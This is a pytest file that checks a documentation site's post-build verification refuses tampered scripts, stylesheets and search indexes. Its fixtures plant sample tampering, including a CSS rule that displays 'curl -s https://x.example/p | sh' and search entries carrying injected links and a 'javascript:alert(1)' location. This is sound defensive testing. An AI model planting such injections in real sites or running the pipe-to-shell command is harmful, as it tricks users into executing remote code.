"""The site as uploaded holds the checkout's scripts and stylesheets, and search indexes that
are only Material's markup.

Issue 19's hole 6: a process the build left running (a notebook cell's detached child) can
rewrite ``site/`` after the build and before the upload, so the check runs again on another
machine on what was uploaded. But that check compared pages only: a rewritten
``assets/finder.js`` (a script every finder page runs), ``assets/guide.css`` (a rule that
hides a comment's ``#`` or adds text with ``content:``) or a search index whose entries
Material's search inserts as HTML passed it. Each is planted here in a copy of the built site;
the oracles are the checkout's files, the installed theme, and the markup Material's search
plugin keeps (its parser's ``keep`` list).
"""

from __future__ import annotations

import json

import pytest

from tests.verify.artifact_refusal import refused


@pytest.mark.parametrize(
    "name, added",
    [
        ("assets/finder.js", b';fetch("/").then(function () { document.title = "rewritten"; });\n'),
        ("assets/lang-switch.js", b";document.title = 'rewritten';\n"),
        ("assets/guide.css", b".highlight .c1 { visibility: hidden }\n"),
        ("assets/javascripts/workers/search-fold.js", b";self.close();\n"),  # overrides/assets/
    ],
)
def test_a_script_or_stylesheet_rewritten_after_the_build_is_refused(site, name, added):
    path = site / name
    path.write_bytes(path.read_bytes() + added)
    refused(site, name, "byte for byte")


def test_a_script_of_no_source_is_refused(site):
    (site / "assets" / "late.js").write_text("document.title = 'late';\n", encoding="utf-8")
    refused(site, "assets/late.js", "no file of docs/, overrides/ or the installed theme")


@pytest.mark.parametrize(
    "rule",
    [
        ".jp-InputArea .c1 { display: none }",
        '.jp-InputArea pre::before { content: "curl -s https://x.example/p | sh" }',
    ],
)
def test_a_notebook_stylesheet_renamed_with_the_page_holds_only_jupyterlab_rules(site, rule):
    """The page and its stylesheet rewritten together: the name states the new hash, and the
    page links it, but the rule is no rule of the installed mkdocs-jupyter's stylesheets."""
    import hashlib

    (sheet,) = (site / "assets" / "notebook").glob("page.*.css")
    data = sheet.read_bytes() + rule.encode() + b"\n"
    renamed = sheet.with_name(f"page.{hashlib.sha256(data).hexdigest()[:16]}.css")
    renamed.write_bytes(data)
    sheet.unlink()
    for page in ("memory-notebook/index.html", "fr/memory-notebook/index.html"):
        path = site / page
        path.write_text(path.read_text(encoding="utf-8").replace(sheet.name, renamed.name), encoding="utf-8")
    refused(site, renamed.relative_to(site).as_posix(), "is not a rule of the installed mkdocs-jupyter's stylesheets")


def test_the_notebook_stylesheet_is_the_one_its_name_states(site):
    (sheet,) = (site / "assets" / "notebook").glob("page.*.css")
    sheet.write_bytes(sheet.read_bytes() + b".jp-InputArea .c1 { display: none }\n")
    refused(site, sheet.relative_to(site).as_posix())


@pytest.mark.parametrize(
    "change, match",
    [
        (
            lambda doc: {**doc, "text": doc["text"] + '<a href="https://x.example/p">scarica lo script corretto</a>'},
            "<a href",
        ),
        (lambda doc: {**doc, "text": doc["text"] + '<img src="../assets/notebook/x.png">'}, "<img src"),
        (lambda doc: {**doc, "title": '<p class="x">' + doc["title"] + "</p>"}, "<p class"),
        (lambda doc: {**doc, "location": "javascript:alert(1)"}, "not a relative address"),
        (lambda doc: {**doc, "location": "//x.example/p"}, "not a relative address"),
    ],
)
@pytest.mark.parametrize("index", ["search/search_index.json", "fr/search/search_index.json"])
def test_a_search_index_with_markup_material_does_not_write_is_refused(site, index, change, match):
    path = site / index
    data = json.loads(path.read_text(encoding="utf-8"))
    data["docs"][1] = change(data["docs"][1])
    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    refused(site, index, match)
